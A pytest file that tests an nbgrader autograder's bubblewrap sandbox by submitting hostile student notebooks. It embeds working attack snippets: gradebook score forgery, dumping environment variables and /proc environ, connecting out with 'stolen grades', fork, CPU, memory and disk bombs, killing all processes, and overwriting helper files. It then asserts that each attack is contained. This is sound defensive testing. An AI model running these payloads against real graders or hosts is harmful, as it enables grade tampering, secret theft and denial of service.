"""Students who attack the grader, graded with real nbgrader and real bubblewrap in ONE class run.

Each attack sits in a `#your code#` cell of assignment 1 beside a correct (or, for the forger, a
wrong) answer, and knows what an informed student could find out: the absolute paths of the
course, its gradebook and a classmate's notebook, and the port of a server on 127.0.0.1. None may
change a grade, read a secret, reach the network, or hurt a classmate graded beside it.
"""
from __future__ import annotations

import contextlib
import hashlib
import io
import socket
import subprocess
import sys
import shutil
import threading
from pathlib import Path

import nbformat
import pytest

from helpers import COURSE_ROOT, instructor
from helpers.data import data_dir
from helpers.grading_preprocessors import is_source_quote
from submissions import autograded_points, fill_release, solution_sources, write_submission

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("sandbox")]

A1, NOTEBOOK = "a1_rnn_forward", "rnn_forward"
CORRECT = ("correct_a", "correct_b")
MARKER = "correct-a-private-answer-5f3e9"          # only in correct_a's notebook
SECRET_VALUE = "grader-secret-8d41c"                 # only in the grader's environment
LATER_EXPECTED = str(COURSE_ROOT / "helpers" / "expected" / "a5.json")   # a later assignment's visible values

WRONG_ONE_HOT = "def one_hot(ix, vocab_size):\n    return np.zeros((vocab_size, 1))\n"

# Each attack prints what it got: the tests look for secrets in every output the grader keeps.
FORGE = '''import os, sqlite3
def _forge(path, score):
    try:
        db = sqlite3.connect(f"file:{{path}}?mode=rw", uri=True, timeout=1)   # an existing gradebook only
        db.execute("UPDATE grade SET manual_score = ?", (score,))
        db.commit()
        print("FORGED", path)
    except Exception as err:
        print("forge failed:", path, type(err).__name__, err)
_places = [{GRADEBOOK!r}]
for _dir, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_dir, d) not in ("/usr", "/proc", "/sys", "/dev")]
    _places += [os.path.join(_dir, f) for f in _files if f.endswith(".db")]
_here = os.getcwd()
while _here != "/":
    _places.append(os.path.join(_here, "gradebook.db"))
    _here = os.path.dirname(_here)
for _path in _places:
    _forge(_path, SCORE)
'''
READ = '''import os, sys
print("PROCESSES", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
print("ENV", dict(os.environ))
def _show(path):
    try:
        print("READ", path, open(path, errors="replace").read()[:3000])
    except Exception as err:
        print("cannot read", path, type(err).__name__)
for _path in [{SOLUTION!r}, {CLASSMATE!r}, {GRADEBOOK!r}, {CONFIG!r}, {LATER_EXPECTED!r}]:
    _show(_path)
_skip = ("/usr", "/proc", "/sys", "/dev", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix))
for _dir, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.realpath(os.path.join(_dir, d)) not in _skip]
    for _file in _files:
        if _file.endswith((".ipynb", ".db", ".py")) and not _dir.startswith(os.getcwd()) and "helpers" not in _dir:
            _show(os.path.join(_dir, _file))
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        _show(f"/proc/{{_pid}}/environ")
'''
NETWORK = '''import socket
for _host in ("127.0.0.1", {HOST_IP!r}):
    try:
        socket.create_connection((_host, {PORT}), timeout=3).sendall(b"stolen grades")
        print("CONNECTED", _host)
    except OSError as err:
        print("no network:", _host, err)
'''
MEMORY_HOG = '''_hog = bytearray(16 * 1024 ** 3)
'''
FORK_BOMB = '''import os, time
_children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        _children += 1
except OSError as err:
    print("FORKED", _children, err)
'''
CPU_BOMB = '''import os, time
try:
    os.setsid()
    print("NEW SESSION")
except OSError as err:
    print("no new session:", err)
_end = time.monotonic() + 60                      # bounded, so that the test ends; a real one would not be
for _ in range(300):
    try:
        if os.fork() == 0:
            try:
                os.setsid()                       # a session of its own would be a CPU share of its own
            except OSError:
                pass
            while time.monotonic() < _end:
                pass
            os._exit(0)
    except OSError:
        break
'''
DISK_FILLER = '''import os
for _where in (".", "/tmp", "/dev/shm"):
    _written = 0
    try:
        for _n in range(100000):
            with open(os.path.join(_where, f"fill{{_n}}"), "wb") as _f:
                for _ in range(64):
                    _f.write(b"x" * (1 << 20))
                    _written += 1 << 20
    except OSError as err:
        print("FILLED", _where, _written >> 20, "MiB", err)
'''
KILLER = '''import os, signal
for _target in (os.getppid(), 1, -1):
    try:
        os.kill(_target, signal.SIGKILL)
        print("killed", _target)
    except OSError as err:
        print("cannot kill", _target, err)
'''
VANDAL = '''import os, helpers
from helpers.data import data_dir
from helpers.grading_preprocessors import is_source_quote
for _folder in (os.path.dirname(helpers.__file__), str(data_dir())):
    for _name in ("checks.py", "PWNED.txt", "manifest.json"):
        try:
            with open(os.path.join(_folder, _name), "a") as _f:
                _f.write("# vandalised")
            print("WROTE", _folder, _name)
        except OSError as err:
            print("cannot write", _folder, _name, err)
'''


class Listener:
    """A TCP server on 127.0.0.1 that records every connection it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.accepted: list[str] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, peer = self.sock.accept()
            except OSError:
                continue
            self.accepted.append(peer[0])
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


def _host_ip() -> str:
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.255.255.255", 1))        # UDP: chooses the outgoing interface, sends nothing
        return probe.getsockname()[0]
    return "127.0.0.2"


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def _outputs(path: Path, source_quotes: bool = True) -> str:
    """Everything a graded notebook printed; without `source_quotes`, less the source lines that
    IPython quotes in a traceback (a hidden test interrupted at its timeout quotes its own code
    there: the grader's doing, which feedback removes, not something a submission read)."""
    if not path.exists():
        return ""
    nb = nbformat.read(path, as_version=4)

    def traceback(frames):
        lines = "\n".join(frames).split("\n")
        return "\n".join(line for line in lines if source_quotes or not is_source_quote(line))
    return "\n".join(str(o.get("text", "")) + str(o.get("data", "")) + str(o.get("evalue", "")) + traceback(
        o.get("traceback", [])) for cell in nb.cells if cell.cell_type == "code" for o in cell.outputs)


class Attack:
    def __init__(self, root: Path, listener: Listener, output: str):
        from nbgrader.api import Gradebook

        self.root, self.listener, self.output = root, listener, output
        self.db_url = f"sqlite:///{root / 'grading' / 'gradebook.db'}"
        with Gradebook(self.db_url) as gb:
            self.grades = {s.student.id: {g.name: (g.auto_score, g.manual_score, g.max_score)
                                          for nb in s.notebooks for g in nb.grades}
                           for s in gb.assignment_submissions(A1)}
            self.students = {s.id for s in gb.students}

    def printed(self, student: str, source_quotes: bool = True) -> str:
        return _outputs(self.root / "grading" / "autograded" / student / A1 / f"{NOTEBOOK}.ipynb", source_quotes)

    def score(self, student: str) -> float:
        return sum((auto or 0) for auto, _, _ in self.grades[student].values())


def _class(course_root: Path, subs: Path, facts: dict) -> list[str]:
    release = course_root / "notebooks" / A1 / f"{NOTEBOOK}.ipynb"
    sources = solution_sources(course_root / "solutions" / A1 / f"{NOTEBOOK}.ipynb")

    def hand_in(student, one_hot):
        write_submission(subs, student, A1, NOTEBOOK, fill_release(release, {**sources, "one_hot": one_hot}))

    hand_in("correct_a", f"# {MARKER}\n" + sources["one_hot"])
    hand_in("correct_b", sources["one_hot"])
    attacks = {
        "forger": FORGE.replace("SCORE", "1000") + WRONG_ONE_HOT,
        "eraser": FORGE.replace("SCORE", "0") + sources["one_hot"],
        "reader": READ + sources["one_hot"],
        "network": NETWORK + sources["one_hot"],
        "memory_hog": MEMORY_HOG + sources["one_hot"],
        "fork_bomb": FORK_BOMB + sources["one_hot"],
        "cpu_bomb": CPU_BOMB + sources["one_hot"],
        "disk_filler": DISK_FILLER + sources["one_hot"],
        "killer": KILLER + sources["one_hot"],
        "vandal": VANDAL + sources["one_hot"],
    }
    for student, code in attacks.items():
        hand_in(student, code.format(**facts))
    return sorted(attacks)


@pytest.fixture(scope="module")
def attack(course_root, tmp_path_factory) -> Attack:
    root = tmp_path_factory.mktemp("sandbox")
    shutil.copy2(course_root / "nbgrader_config.py", root)
    shutil.copytree(course_root / "solutions" / A1, root / "solutions" / A1)
    listener = Listener()
    facts = {"GRADEBOOK": str(root / "grading" / "gradebook.db"), "CONFIG": str(root / "nbgrader_config.py"),
             "SOLUTION": str(root / "solutions" / A1 / f"{NOTEBOOK}.ipynb"),
             "CLASSMATE": str(root / "grading" / "submitted" / "correct_a" / A1 / f"{NOTEBOOK}.ipynb"),
             "PORT": listener.port, "HOST_IP": _host_ip(), "LATER_EXPECTED": LATER_EXPECTED}
    _class(course_root, root / "class", facts)
    before = {"helpers": _digest(COURSE_ROOT / "helpers"), "data": _digest(data_dir())}
    output = io.StringIO()
    try:
        with pytest.MonkeyPatch.context() as env, contextlib.redirect_stdout(output), \
                contextlib.redirect_stderr(output):
            env.setenv("RNN_KIT_CELL_TIMEOUT", "30")
            env.setenv("RNN_KIT_TEST_SECRET", SECRET_VALUE)
            instructor.grade(root / "class", A1, root=root, jobs=2, timeout=180, csv=root / "grades.csv")
            instructor.write_feedback(A1, root=root)
    finally:
        listener.close()
    run = Attack(root, listener, output.getvalue())
    run.before = before
    return run


def test_every_student_is_graded_and_correct_classmates_keep_every_point(attack):
    full = autograded_points(COURSE_ROOT / "solutions" / A1 / f"{NOTEBOOK}.ipynb")
    assert attack.students == {"correct_a", "correct_b", "forger", "eraser", "reader", "network", "memory_hog",
                               "fork_bomb", "cpu_bomb", "disk_filler", "killer", "vandal"}
    for student in CORRECT:
        assert attack.score(student) == full, f"{student}: {attack.grades[student]}"


def test_the_gradebook_holds_only_what_nbgrader_wrote(attack):
    forged = {student: cells for student, cells in attack.grades.items()
              if any(manual is not None for _, manual, _ in cells.values())}
    assert not forged, f"manual scores nobody gave: {forged}"
    assert attack.grades["forger"]["test_one_hot"][0] == 0, "the forger's wrong answer keeps its honest 0"
    assert "FORGED" not in attack.output + "".join(attack.printed(s) for s in attack.grades)


def test_attackers_with_correct_answers_keep_their_honest_marks(attack):
    full = autograded_points(COURSE_ROOT / "solutions" / A1 / f"{NOTEBOOK}.ipynb")
    for student in ("eraser", "reader", "network", "disk_filler", "killer", "vandal"):
        assert attack.score(student) == full, f"{student}: {attack.grades[student]}\n{attack.printed(student)[-3000:]}"


def test_no_secret_reaches_any_output_or_feedback(attack):
    hidden = instructor.secret_lines(attack.root, A1, ("HIDDEN TESTS",))
    assert hidden, "the assignment has hidden tests to protect"
    pages = list((attack.root / "grading" / "feedback").rglob("*.html"))
    assert {"correct_a", "reader", "forger"} <= {page.parts[-3] for page in pages}
    for student in attack.grades:
        printed = attack.printed(student, source_quotes=False)
        leaks = [line for line in hidden if line in printed]
        assert not leaks, f"{student}'s notebook shows hidden tests: {leaks[:3]}"
        if student != "correct_a":
            assert MARKER not in printed, f"{student} read correct_a's notebook"
        assert SECRET_VALUE not in printed, f"{student} read the grader's environment"
        assert "RNN_KIT_TEST_SECRET" not in printed
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert not instructor.leaked_lines(text, hidden), page
        assert SECRET_VALUE not in text and (MARKER not in text or "correct_a" in page.parts)
    reader = attack.printed("reader")
    assert "cannot read" in reader and not _read_outside(reader), _read_outside(reader)
    assert f"cannot read {LATER_EXPECTED} FileNotFoundError" in reader, "a later assignment's expected values"
    assert "PROCESSES [1, 2]" in reader, "the reader sees its own sandbox's processes only"


def test_no_connection_leaves_the_sandbox(attack):
    assert attack.listener.accepted == []
    printed = attack.printed("network")
    assert "CONNECTED" not in printed and printed.count("no network:") == 2, printed[-2000:]


def test_resource_attacks_are_contained(attack):
    hog = attack.printed("memory_hog")
    assert "MemoryError" in hog, hog[-2000:]
    forks = [line for line in attack.printed("fork_bomb").splitlines() if line.startswith("FORKED")]
    assert forks and int(forks[0].split()[1]) < 256, forks
    # 250 busy processes share one session's CPU: the classmates graded meanwhile keep every point (above).
    assert "no new session: [Errno 1]" in attack.printed("cpu_bomb")
    filled = [line.split() for line in attack.printed("disk_filler").splitlines() if line.startswith("FILLED")]
    assert len(filled) == 3 and all(int(mib) <= 256 for _, _, mib, *_ in filled), filled


def test_helpers_and_data_are_read_only(attack):
    assert "WROTE" not in attack.printed("vandal")
    assert _digest(COURSE_ROOT / "helpers") == attack.before["helpers"]
    assert _digest(data_dir()) == attack.before["data"]


def _course(course_root: Path, tmp: Path) -> Path:
    root = tmp / "course"
    root.mkdir()
    shutil.copy2(course_root / "nbgrader_config.py", root)
    shutil.copytree(course_root / "solutions" / A1, root / "solutions" / A1)
    return root


def _submit(course_root: Path, folder: Path, student: str, one_hot: str) -> None:
    sources = solution_sources(course_root / "solutions" / A1 / f"{NOTEBOOK}.ipynb")
    nb = fill_release(course_root / "notebooks" / A1 / f"{NOTEBOOK}.ipynb", {**sources, "one_hot": one_hot})
    write_submission(folder, student, A1, NOTEBOOK, nb)


def _read_outside(printed: str) -> list[str]:
    """The files the reader opened besides what the sandbox shows on purpose (the Python environment,
    helpers and the data, its own /proc entries)."""
    from helpers.instructor.sandbox import course_paths, python_paths

    shown = tuple(f"{p}/" for p in python_paths() + course_paths()) + ("/proc/",)
    opened = [line.split()[1] for line in printed.splitlines() if line.startswith("READ ")]
    return [path for path in opened if not path.startswith(shown)]


def test_plain_nbgrader_autograde_with_the_gradebook_moved_is_sandboxed_too(course_root, tmp_path):
    """`nbgrader autograde` as an instructor types it, with db_url and the submitted folder overridden."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    gradebook = elsewhere / "class.db"
    facts = {"GRADEBOOK": str(gradebook), "CONFIG": str(tmp_path / "course" / "nbgrader_config.py"),
             "SOLUTION": str(tmp_path / "course" / "solutions" / A1 / f"{NOTEBOOK}.ipynb"),
             "CLASSMATE": str(tmp_path / "course" / "notebooks" / A1 / f"{NOTEBOOK}.ipynb"),
             "LATER_EXPECTED": LATER_EXPECTED}
    sources = solution_sources(course_root / "solutions" / A1 / f"{NOTEBOOK}.ipynb")
    root = _course(course_root, tmp_path)
    _submit(course_root, root / "grading" / "submitted", "spy",
            (FORGE.replace("SCORE", "1000") + READ).format(**facts) + sources["one_hot"])
    db_url = f"sqlite:///{gradebook}"
    env = instructor.environment()
    env["RNN_KIT_TEST_SECRET"] = SECRET_VALUE
    for args in (["generate_assignment", A1, "--force", "--CourseDirectory.release_directory=release"],
                 ["autograde", A1, "--force"]):
        proc = subprocess.run(["nbgrader", *args, f"--CourseDirectory.db_url={db_url}"], cwd=root, env=env,
                              capture_output=True, text=True)
        assert proc.returncode == 0, proc.stdout + proc.stderr
    printed = _outputs(root / "grading" / "autograded" / "spy" / A1 / f"{NOTEBOOK}.ipynb")
    assert "forge failed" in printed and "FORGED" not in printed and not _read_outside(printed)
    assert SECRET_VALUE not in printed
    leaks = [line for line in instructor.secret_lines(root, A1, ("HIDDEN TESTS",)) if line in printed]
    assert not leaks
    from nbgrader.api import Gradebook

    with Gradebook(db_url) as gb:
        assert all(g.manual_score is None for g in gb.find_submission_notebook(NOTEBOOK, A1, "spy").grades)


def test_the_formgraders_autograde_is_sandboxed(course_root, tmp_path, monkeypatch):
    """The formgrader's "autograde" button calls NbGraderAPI.autograde in the server process."""
    from nbgrader.apps import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory
    from traitlets.config import Config

    facts = {"GRADEBOOK": str(tmp_path / "course" / "grading" / "gradebook.db"),
             "CONFIG": str(tmp_path / "course" / "nbgrader_config.py"),
             "SOLUTION": str(tmp_path / "course" / "solutions" / A1 / f"{NOTEBOOK}.ipynb"),
             "CLASSMATE": str(tmp_path / "course" / "notebooks" / A1 / f"{NOTEBOOK}.ipynb"),
             "LATER_EXPECTED": LATER_EXPECTED}
    sources = solution_sources(course_root / "solutions" / A1 / f"{NOTEBOOK}.ipynb")
    root = _course(course_root, tmp_path)
    _submit(course_root, root / "grading" / "submitted", "spy", READ.format(**facts) + sources["one_hot"])
    monkeypatch.chdir(root)
    monkeypatch.setenv("RNN_KIT_TEST_SECRET", SECRET_VALUE)
    instructor.generate_release(root, release_dir=root / "grading" / "release", only=[A1])
    config = Config()
    exec(compile((root / "nbgrader_config.py").read_text(), "nbgrader_config.py", "exec"),   # as nbgrader loads it
         {"get_config": lambda: config, "__file__": str(root / "nbgrader_config.py")})
    api = NbGraderAPI(CourseDirectory(config=config), config=config)
    result = api.autograde(A1, "spy")
    assert result["success"], result.get("log", "") + result.get("error", "")
    printed = _outputs(root / "grading" / "autograded" / "spy" / A1 / f"{NOTEBOOK}.ipynb")
    assert "cannot read" in printed and not _read_outside(printed)
    assert SECRET_VALUE not in printed


def test_without_bubblewrap_grading_refuses_and_changes_nothing(course_root, tmp_path):
    root = _course(course_root, tmp_path)
    class_dir = tmp_path / "class"
    _submit(course_root, class_dir, "alice", solution_sources(course_root / "solutions" / A1 / f"{NOTEBOOK}.ipynb")["one_hot"])
    bare = {**instructor.environment(), "PATH": str(Path(sys.executable).parent)}   # no /usr/bin: no bwrap
    cmd = [sys.executable, "-m", "helpers.instructor", "grade", str(class_dir), "-a", A1, "--course", str(root)]
    proc = subprocess.run(cmd, env=bare, capture_output=True, text=True)
    assert proc.returncode == 1
    assert "bwrap" in proc.stderr and "apt-get install bubblewrap" in proc.stderr and "--no-sandbox" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (root / "grading").exists(), "nothing was imported or graded"

    proc = subprocess.run(cmd + ["--no-sandbox"], env=bare, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert "WARNING: grading WITHOUT the sandbox" in proc.stderr
    log = (root / "grading" / "grading-runs.log").read_text()
    assert f"{A1} sandbox=NONE" in log and "alice" in log
